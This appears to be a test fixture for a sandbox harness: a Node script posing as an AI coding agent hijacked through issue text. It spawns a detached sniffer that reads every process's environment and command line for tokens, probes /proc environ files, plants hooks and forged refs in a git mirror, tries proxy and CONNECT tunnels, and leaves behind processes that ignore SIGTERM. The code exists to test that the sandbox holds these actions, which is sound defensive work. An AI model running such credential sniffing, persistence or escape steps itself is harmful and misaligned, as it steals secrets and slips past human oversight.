@@ -1,0 +1,152 @@
+#!/usr/bin/env node
+// A hostile stand-in for an AI coding CLI: it does what issue text could steer a real one into,
+// and writes what it got to <stateDir>/<task id>.json, the one folder the test binds in read-write.
+// Usage: hostile-agent.mjs <stateDir>; what it tries comes from <stateDir>/plan.json, by issue number:
+//   { "<n>": { "sniff"?: true, "probe"?: { paths, env }, "writeMirror"?: true, "verifyTree"?: true,
+//              "net"?: { direct?: url, proxied?: url, connect?: "host:port" }, "hang"?: true,
+//              "edit"?: true, "readEnv"?: [names] } }
+import { spawn } from 'node:child_process';
+import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { request } from 'node:http';
+import { connect } from 'node:net';
+import { dirname, join } from 'node:path';
+import { execFileSync } from 'node:child_process';
+
+const [stateDir] = process.argv.slice(2);
+const plan = JSON.parse(readFileSync(join(stateDir, 'plan.json'), 'utf8'))[process.env.GAFFER_ISSUE_NUMBER] ?? {};
+const out = { env: Object.keys(process.env).sort(), uid: process.getuid() };
+const save = () => writeFileSync(join(stateDir, `${process.env.GAFFER_TASK_ID}.json`), JSON.stringify(out, null, 2));
+const tryRead = (path) => {
+  try {
+    const st = readdirSync(path, { withFileTypes: true });
+    return { kind: 'listed', content: st.map((d) => d.name).join(',') };
+  } catch (err) {
+    if (err.code === 'ENOTDIR') {
+      try {
+        return { kind: 'read', content: readFileSync(path, 'utf8') };
+      } catch (e) {
+        return { kind: e.code === 'ENOENT' ? 'absent' : 'refused', code: e.code };
+      }
+    }
+    return { kind: err.code === 'ENOENT' ? 'absent' : 'refused', code: err.code };
+  }
+};
+const tryWrite = (path, text) => {
+  try {
+    mkdirSync(dirname(path), { recursive: true });
+    writeFileSync(path, text);
+    return 'written';
+  } catch (err) {
+    return err.code;
+  }
+};
+const mirror = () => dirname(readFileSync('.git/objects/info/alternates', 'utf8').trim());
+
+if (plan.sniff) {
+  // Outlive the task in a session of its own, and watch every process's environment and
+  // command line for tokens, as a real sniffer would.
+  const sniffer = `
+    const fs = require('fs');
+    const seen = new Set();
+    setInterval(() => {
+      fs.appendFileSync(${JSON.stringify(join(stateDir, 'sniffer-alive'))}, '.');
+      for (const p of fs.readdirSync('/proc')) {
+        if (!/^\\d+$/.test(p)) continue;
+        for (const f of ['environ', 'cmdline']) {
+          let t = '';
+          try { t = fs.readFileSync('/proc/' + p + '/' + f, 'utf8'); } catch { continue; }
+          if (!seen.has(t)) { seen.add(t); fs.appendFileSync(${JSON.stringify(join(stateDir, 'sniffed.txt'))}, t.replace(/\\0/g, '\\n') + '\\n'); }
+        }
+      }
+    }, 20);`;
+  const child = spawn('setsid', [process.execPath, '-e', sniffer, `sniffer-of-${stateDir}`], { stdio: 'ignore', detached: true });
+  child.unref();
+  out.snifferStarted = true;
+  // Give it time to scan this task's own processes.
+  await new Promise((r) => setTimeout(r, 300));
+}
+
+if (plan.probe) {
+  out.probe = {};
+  for (const p of plan.probe.paths) out.probe[p] = tryRead(p);
+  out.probe['/proc/self/environ'] = tryRead('/proc/self/environ');
+  out.probe[`/proc/${process.ppid}/environ`] = tryRead(`/proc/${process.ppid}/environ`);
+  out.probe['/proc/1/environ'] = tryRead('/proc/1/environ');
+  out.processes = readdirSync('/proc').filter((p) => /^\d+$/.test(p)).map((p) => {
+    try {
+      return readFileSync(`/proc/${p}/cmdline`, 'utf8').replace(/\0/g, ' ').trim();
+    } catch {
+      return '';
+    }
+  });
+}
+
+if (plan.writeMirror) {
+  const m = mirror();
+  out.writes = {
+    objects: tryWrite(join(m, 'objects', 'ab', 'planted'), 'x'),
+    pack: tryWrite(join(m, 'objects', 'pack', 'planted.pack'), 'x'),
+    alternatesFile: tryWrite(join(m, 'objects', 'info', 'alternates'), '/tmp\n'),
+    config: tryWrite(join(m, 'config'), '[core]\n\thooksPath = /tmp\n'),
+    hooks: tryWrite(join(m, 'hooks', 'pre-push'), '#!/bin/sh\nexit 0\n'),
+    refs: tryWrite(join(m, 'refs', 'remotes', 'origin', 'main'), '0'.repeat(40) + '\n'),
+  };
+}
+
+if (plan.verifyTree) {
+  out.head = execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();
+  out.status = execFileSync('git', ['status', '--porcelain', '--ignored'], { encoding: 'utf8' });
+  out.log = execFileSync('git', ['log', '--format=%s'], { encoding: 'utf8' }).trim().split('\n');
+}
+
+const httpGet = (opts) =>
+  new Promise((resolve) => {
+    const req = request({ ...opts, timeout: 3000 }, (res) => {
+      let body = '';
+      res.on('data', (c) => (body += c));
+      res.on('end', () => resolve({ status: res.statusCode, body }));
+    });
+    req.on('error', (err) => resolve({ error: err.code ?? err.message }));
+    req.on('timeout', () => req.destroy(new Error('timeout')));
+    req.end();
+  });
+
+if (plan.net) {
+  out.net = {};
+  if (plan.net.direct) {
+    const u = new URL(plan.net.direct);
+    out.net.direct = await httpGet({ host: u.hostname, port: u.port, path: u.pathname });
+  }
+  const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : undefined;
+  out.net.proxy = process.env.HTTP_PROXY ?? null;
+  if (plan.net.proxied && proxy) {
+    out.net.proxied = await httpGet({ host: proxy.hostname, port: proxy.port, path: plan.net.proxied });
+  }
+  if (plan.net.connect && proxy) {
+    out.net.connect = await new Promise((resolve) => {
+      const s = connect(Number(proxy.port), proxy.hostname, () => s.write(`CONNECT ${plan.net.connect} HTTP/1.1\r\nHost: ${plan.net.connect}\r\n\r\n`));
+      let data = '';
+      s.on('data', (c) => (data += c));
+      s.on('end', () => resolve(data.split('\r\n')[0]));
+      s.on('error', (err) => resolve(err.code));
+      setTimeout(() => { s.destroy(); resolve(data.split('\r\n')[0]); }, 2000);
+    });
+  }
+}
+
+if (plan.readEnv) {
+  out.values = Object.fromEntries(plan.readEnv.map((n) => [n, process.env[n] ?? null]));
+}
+
+if (plan.edit !== false) {
+  appendFileSync('README.md', `\nEdited by the hostile agent for task ${process.env.GAFFER_TASK_ID}.\n`);
+}
+save();
+
+if (plan.hang) {
+  // Ignore SIGTERM, and leave a session of our own behind that ignores it too.
+  process.on('SIGTERM', () => {});
+  spawn('setsid', [process.execPath, '-e', "process.on('SIGTERM', () => {}); setInterval(() => {}, 1 << 30)", `hanger-of-${stateDir}`], { stdio: 'ignore', detached: true }).unref();
+  writeFileSync(join(stateDir, 'hanging'), '');
+  setInterval(() => {}, 1 << 30);
+}
